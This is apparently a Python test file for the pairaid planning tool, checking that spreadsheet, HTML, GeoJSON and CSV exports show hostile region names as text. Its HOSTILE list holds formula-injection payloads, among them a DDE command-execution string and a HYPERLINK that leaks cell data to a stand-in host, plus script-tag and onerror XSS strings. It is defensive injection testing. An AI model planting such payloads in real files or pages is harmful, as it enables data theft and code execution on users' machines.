"""Every export writer against hostile text: nothing a user typed becomes code (issue 19, kind 1).

A region's names travel into plan.xlsx (spreadsheet cells), report.html (HTML tables and
JSON inside ``<script>``), pairs.geojson and the run's CSV files. Each must show the text
exactly as typed and never run it: no formula cell in the workbook (OWASP "CSV Injection"
lists ``=``, ``+``, ``-``, ``@``, tab and carriage return as formula triggers), the same
four ``<script>`` elements in the page as parsed by the HTML5 tokenizer (html5lib, as
browsers parse), and the names read back unchanged from every file.
"""

from __future__ import annotations

import csv
import json
import re
import shutil
from collections.abc import Callable
from pathlib import Path

import html5lib
import pandas as pd
import pytest
from openpyxl import load_workbook

from pairaid.report.html import script_json
from pairaid.report.plottext import plot_text
from pairaid.report.xlsx import FORMULA_TRIGGERS

HOSTILE = [
    "=1+1", '=HYPERLINK("http://example.invalid/?leak="&A1,"Province A")', "+1+1", "-2+3",
    "@SUM(1,2)", "\tTAB", "\rCR", "=cmd|' /C calc'!A0", "</script><b>bold</b>",
    "Xiaogan <!--<script>", '<script>alert("x")</script>City', "<img src=x onerror=alert(2)>",
    "<!-- -->", "]]>&amp;&lt;", "line\u2028sep\u2029end", "\"quoted\" 'single' `back`",
]
"""Text that has broken or hijacked some export writer somewhere (cases c0016, c0020)."""
SCRIPT_IDS = [None, "pairaid-figures", "pairaid-geo", None]
"""The page's <script> elements in order: plotly.js, figures, boundaries, page script."""
REGIONS = ["CN-AA", "CN-BB", "420900", "421100"]
CASE_DATA = Path(__file__).parents[1] / "data" / "cases" / "c0016" / "data"


def _hostile_data(tmp_path: Path, names: list[str]) -> Path:
    """c0016's data with the 8 names of its 4 donor/recipient regions replaced by ``names``."""
    data = tmp_path / "data"
    shutil.copytree(CASE_DATA, data)
    regions = pd.read_csv(data / "regions.csv", dtype=str, keep_default_na=False)
    for i, code in enumerate(REGIONS):
        row = regions["region_code"] == code
        regions.loc[row, "name_zh"] = names[2 * i]
        regions.loc[row, "name_en"] = names[2 * i + 1]
    regions.to_csv(data / "regions.csv", index=False, quoting=csv.QUOTE_ALL)
    return data


def _formula_cells(path: Path) -> list[str]:
    wb = load_workbook(path)
    return [f"{ws.title}!{c.coordinate}" for ws in wb.worksheets for row in ws.iter_rows()
            for c in row if c.data_type == "f"]


def _ooxml_text(stored: str) -> str:
    """Text as a spreadsheet program shows it: ECMA-376 Part 1, 22.9.2.19 (ST_Xstring)
    stores a character XML cannot hold (a carriage return, other control characters) as
    ``_xHHHH_``, and a literal ``_xHHHH_`` as ``_x005F_xHHHH_``; openpyxl returns the stored
    form, so it is decoded here."""
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), stored)


def _text_cells(path: Path) -> dict[str, list[tuple[str, bool]]]:
    """Text value (as shown) -> [(cell, quote prefix)] of every text cell of the workbook."""
    out: dict[str, list[tuple[str, bool]]] = {}
    wb = load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if isinstance(c.value, str):
                    out.setdefault(_ooxml_text(c.value), []).append(
                        (f"{ws.title}!{c.coordinate}", bool(c.quotePrefix)))
    return out


def _scripts(page: str) -> list[tuple[str | None, str]]:
    doc = html5lib.parse(page, namespaceHTMLElements=False)
    return [(s.get("id"), s.text or "") for s in doc.findall(".//script")]


@pytest.fixture(scope="module", params=[0, 1], ids=["names-1-8", "names-9-16"])
def hostile_run(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
                ) -> tuple[Path, list[str]]:
    from pairaid.cli import main

    names = HOSTILE[8 * request.param: 8 * request.param + 8]
    tmp = tmp_path_factory.mktemp("hostile")
    data = _hostile_data(tmp, names)
    out = tmp / "run"
    assert main(["plan", "--data", str(data), "--demand", str(data / "demand.csv"),
                 "--horizon", "3", "--no-official", "--xlsx", "--report",
                 "--out", str(out)]) == 0
    return out, names


def test_workbook_has_no_formula_and_shows_every_name_as_typed(
        hostile_run: tuple[Path, list[str]]) -> None:
    out, names = hostile_run
    assert _formula_cells(out / "plan.xlsx") == []
    cells = _text_cells(out / "plan.xlsx")
    for name in names:
        # exactly as typed, a carriage return included (stored as _x000D_, _ooxml_text)
        shown = name
        assert shown in cells, name
        if name.startswith(FORMULA_TRIGGERS):
            assert all(prefix for _, prefix in cells[shown]), (name, cells[shown])


def test_report_keeps_its_four_scripts_and_the_names_as_data(
        hostile_run: tuple[Path, list[str]]) -> None:
    out, names = hostile_run
    page = (out / "report.html").read_text(encoding="utf-8")
    scripts = _scripts(page)
    assert [i for i, _ in scripts] == SCRIPT_IDS
    figures = json.loads(dict(scripts)["pairaid-figures"])
    text = json.dumps(figures, ensure_ascii=False)
    for name in names:
        # escaped for plotly.js, which reads figure text as HTML (shown as typed, c0020)
        assert json.dumps(plot_text(name), ensure_ascii=False)[1:-1] in text, name
    # no markup from a name reached the document: only the elements pairaid writes
    doc = html5lib.parse(page, namespaceHTMLElements=False)
    assert doc.findall(".//img") == [] and doc.findall(".//b") == []


def test_geojson_and_csv_keep_the_raw_names(hostile_run: tuple[Path, list[str]]) -> None:
    out, names = hostile_run
    geo = json.loads((out / "pairs.geojson").read_text(encoding="utf-8"))
    props = [f["properties"] for f in geo["features"]]
    found = {v for p in props for k, v in p.items() if "name" in k}
    assert set(names) <= found
    regions = pd.read_csv(out / "regions.csv", dtype=str, keep_default_na=False)
    assert set(names) <= set(regions["name_zh"]) | set(regions["name_en"])


@pytest.mark.parametrize("text", HOSTILE)
def test_script_json_has_no_markup_and_reads_back(text: str) -> None:
    out = script_json({"name": text, "list": [text]})
    assert not re.search(r"[<>&\u2028\u2029]", out)
    assert json.loads(out) == {"name": text, "list": [text]}


def test_c0016_names_are_text_cells_not_formulas(
        run_case: Callable[..., tuple[int, Path, str]]) -> None:
    """c0016: ``=HYPERLINK(...)`` and ``=1+1`` were formula cells in the regions sheet."""
    code, out, _ = run_case("c0016", "data", "--horizon", "3", "--no-official", "--xlsx")
    assert code == 0
    assert _formula_cells(out / "plan.xlsx") == []
    ws = load_workbook(out / "plan.xlsx")["regions"]
    rows = {r[0]: r for r in ws.iter_rows(min_row=2, values_only=True)}
    assert rows["CN-AA"][4] == '=HYPERLINK("http://example.invalid/?leak="&A1,"Province A")'
    assert rows["421100"][3] == "=1+1"
    assert rows["CN-BB"][3:5] == ("@SUM(1,2)", "-2+3")


def test_c0016_configuration_dates_are_date_cells(
        run_case: Callable[..., tuple[int, Path, str]]) -> None:
    """c0016 (related): ``decision_date`` was the text "2020-02-10" in the configuration sheet."""
    code, out, _ = run_case("c0016", "data", "--horizon", "3", "--no-official", "--xlsx")
    assert code == 0
    ws = load_workbook(out / "plan.xlsx")["configuration"]
    values = {r[0]: r[1] for r in ws.iter_rows(min_row=2, values_only=True)}
    config = (out / "config.toml").read_text(encoding="utf-8")
    day = re.search(r'decision_date = "?(\d{4}-\d{2}-\d{2})', config)
    assert day is not None
    assert values["decision_date"].date().isoformat() == day.group(1)


def test_c0020_comment_open_name_keeps_every_figure(
        run_case: Callable[..., tuple[int, Path, str]]) -> None:
    """c0020: a city named ``Xiaogan <!--<script>`` made the figures' script swallow the rest."""
    code, out, _ = run_case("c0020", "data-comment", "--horizon", "3", "--no-official",
                            "--report")
    assert code == 0
    scripts = _scripts((out / "report.html").read_text(encoding="utf-8"))
    assert [i for i, _ in scripts] == SCRIPT_IDS
    figures = json.loads(dict(scripts)["pairaid-figures"])
    assert "Xiaogan &lt;!--&lt;script&gt;" in json.dumps(figures, ensure_ascii=False)
    json.loads(dict(scripts)["pairaid-geo"])


def test_c0020_script_names_stay_text(run_case: Callable[..., tuple[int, Path, str]]) -> None:
    """c0020 (passing part): ``</script>`` and ``<img>`` names stay text in the page."""
    code, out, _ = run_case("c0020", "data", "--horizon", "3", "--no-official", "--report")
    assert code == 0
    page = (out / "report.html").read_text(encoding="utf-8")
    assert [i for i, _ in _scripts(page)] == SCRIPT_IDS
    doc = html5lib.parse(page, namespaceHTMLElements=False)
    assert doc.findall(".//img") == [] and doc.findall(".//b") == []


@pytest.mark.skipif(not Path("/usr/bin/chromium").exists(), reason="chromium not installed")
def test_c0020_kind_names_are_drawn_as_typed_not_as_plotly_markup(
        run_case: Callable[..., tuple[int, Path, str]]) -> None:
    """plotly.js reads figure text as HTML: ``</script><b>bold</b>`` (c0020's 421100) was
    drawn as "</script>" and a bold "bold" (a ``<tspan style="font-weight:bold">`` in
    Chromium's DOM). Every name must be drawn as typed: its characters in the SVG text, and
    no bold or link element made from it."""
    from playwright import sync_api

    code, out, _ = run_case("c0020", "data", "--horizon", "3", "--no-official", "--report")
    assert code == 0
    with sync_api.sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path="/usr/bin/chromium",
                                     args=["--headless", "--no-sandbox", "--disable-gpu"])
        try:
            page = browser.new_page(viewport={"width": 1400, "height": 900})
            page.goto((out / "report.html").resolve().as_uri())
            page.wait_for_selector("body[data-rendered=en]", timeout=30_000)
            texts = page.evaluate(
                "[...document.querySelectorAll('svg text')].map(e => e.textContent)")
            bold = page.evaluate("[...document.querySelectorAll('svg tspan')].filter("
                                 "e => (e.getAttribute('style') || '').includes('bold'))"
                                 ".map(e => e.textContent)")
        finally:
            browser.close()
    shown = "\n".join(texts)
    assert "</script><b>bold</b>" in shown
    assert '<script>alert("x")</script>City' in shown
    assert "bold" not in bold


def test_pairs_table_shows_the_names_as_typed(hostile_run: tuple[Path, list[str]]) -> None:
    """The report's table of pairs (who sends what to whom) holds each paired region's
    names as text, as typed (an HTML parser reads a carriage return as a line feed), and
    no markup from them."""
    out, names = hostile_run
    page = (out / "report.html").read_text(encoding="utf-8")
    doc = html5lib.parse(page, namespaceHTMLElements=False)
    table = next(t for t in doc.iter("table") if t.get("id") == "pairs-table")
    assert [e.tag for e in table.iter() if e.tag not in ("table", "tbody", "tr", "th", "td",
                                                          "span")] == []
    spans = {s.text for s in table.iter("span")}
    pairs = pd.read_csv(out / "pairs.csv", dtype=str)
    paired = set(pairs["donor_code"]) | set(pairs["recipient_code"])
    shown = [names[2 * i + j] for i, code in enumerate(REGIONS) if code in paired
             for j in (0, 1)]
    assert len(shown) == 8  # c0016 pairs all four regions
    for name in shown:
        assert name.replace("\r", "\n") in spans, name
